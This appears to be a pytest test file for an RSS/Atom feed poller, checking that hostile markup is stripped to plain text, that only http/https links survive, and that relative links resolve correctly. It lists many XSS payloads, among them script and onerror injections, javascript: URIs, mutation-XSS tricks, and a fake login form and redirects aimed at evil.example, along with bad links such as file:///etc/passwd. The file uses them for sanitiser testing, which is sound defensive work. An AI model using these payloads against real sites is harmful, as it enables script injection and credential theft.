"""Musts 51 and 52 of the poller: only safe words and links come in, and items keep their names."""

from __future__ import annotations

import pytest

from monitor.feeds.text import plain, safe_link
from tests.feeds.conftest import World
from tests.feeds.hostile import Hostile, Reply, rss, rss_item

# --- 51 ---------------------------------------------------------------------------------------
PROBES = (
    "<script>alert(1)</script>",
    "<b>x</b><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)' />",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg/onload=alert(1)>",
    '<video src="javascript:alert(1)" poster="javascript:alert(1)"></video>',
    '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<style>@import 'https://evil.example'</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<img src="https://pixel.example/1.gif" width="1" height="1">',
)


@pytest.mark.parametrize("probe", PROBES)
@pytest.mark.parametrize("field", ["title", "description"])
def test_51_nothing_but_words_comes_out_of_hostile_markup(
    world: World, server: Hostile, probe: str, field: str
) -> None:
    changes = {field: f"<![CDATA[Before {probe} after]]>"}
    server.says("/feed", rss(rss_item(1, **changes)))
    world.watch()
    world.only()
    (row,) = world.rows()
    for text in (row.title, row.summary):
        assert "<" not in text
        assert "alert(1)" not in text.replace("ipt>alert(1)", "")
        assert "evil.example" not in text
        assert "pixel.example" not in text
    assert (row.title if field == "title" else row.summary).startswith("Before")


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(1)",
        "java\tscript:alert(1)",
        " javascript:alert(1)",
        "&#1;javascript:alert(1)",
        "data:text/html,x",
        "file:///etc/passwd",
        "vbscript:x",
        "mailto:x@paper.example",
        "http:",
        "http://[bad",
    ],
)
def test_51_links_are_http_or_https_or_nothing(world: World, server: Hostile, link: str) -> None:
    server.says("/feed", rss(rss_item(1, link=link)))
    world.watch()
    world.only()
    assert world.rows()[0].url == ""


def test_51_hidden_characters_are_removed() -> None:
    assert plain("a\u202eb\u200bc\u2066d\x07e\ufefff\u00adg") == "abcdefg"
    assert plain("<p>one</p><p>two</p>three<br>four &amp; five") == "one two three four & five"
    assert plain("x " * 3000).endswith("x…")
    assert len(plain("y" * 3000)) == 2000
    assert plain("5 < 6 & 7 > 2") == "5 < 6 & 7 > 2"


# --- 52 ---------------------------------------------------------------------------------------
def test_52_relative_links_follow_the_document_and_identity_does_not_follow_the_address(
    world: World, server: Hostile
) -> None:
    body = (
        b'<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://base.example/dir/">'
        b'<title>T</title><link href="https://site.example/"/>'
        b'<entry><id>rel/1</id><title>One</title><link href="a/1"/></entry>'
        b'<entry xml:base="https://other.example/"><id>rel/2</id><title>Two</title>'
        b'<link href="2"/></entry></feed>'
    )
    plain_rss = rss(rss_item(3, guid="rel/3", link="/3"), rss_item(4, guid="rel/4", link="?p=4"))
    bare = plain_rss.replace(b"<link>https://paper.example/</link>", b"")
    server.says("/atom", body)
    server.says("/rss", plain_rss)
    server.says("/bare", bare)
    for path in ("/atom", "/rss", "/bare"):
        world.watch(path)
    world.poll()
    found = {(row.guid, row.url) for row in world.rows()}
    assert found == {
        ("rel/1", "https://base.example/dir/a/1"),
        ("rel/2", "https://other.example/2"),
        ("rel/3", "https://paper.example/3"),
        ("rel/4", "https://paper.example/?p=4"),
        ("rel/3", server.url("/3")),
        ("rel/4", server.url("/bare?p=4")),
    }


def test_52_a_feed_that_moves_keeps_the_ids_of_its_items(world: World, server: Hostile) -> None:
    body = rss(rss_item(1, guid="rel/1", link="/1"))
    server.says("/feed", Reply(status=301, headers=[("Location", "/deep/down/new")]))
    server.says("/deep/down/new", body)
    world.watch()
    outcomes = []
    for _ in range(5):
        outcomes += world.poll()
        world.advance(days=1)
    assert [len(one.new) for one in outcomes] == [1, 0, 0, 0, 0]
    assert outcomes[-1].feed.url == server.url("/deep/down/new")


def test_links_that_cannot_be_made_absolute_are_none() -> None:
    assert safe_link("/x") == ""
    assert safe_link("") == ""
    assert safe_link("/x", "", "https://a.example/y") == "https://a.example/x"
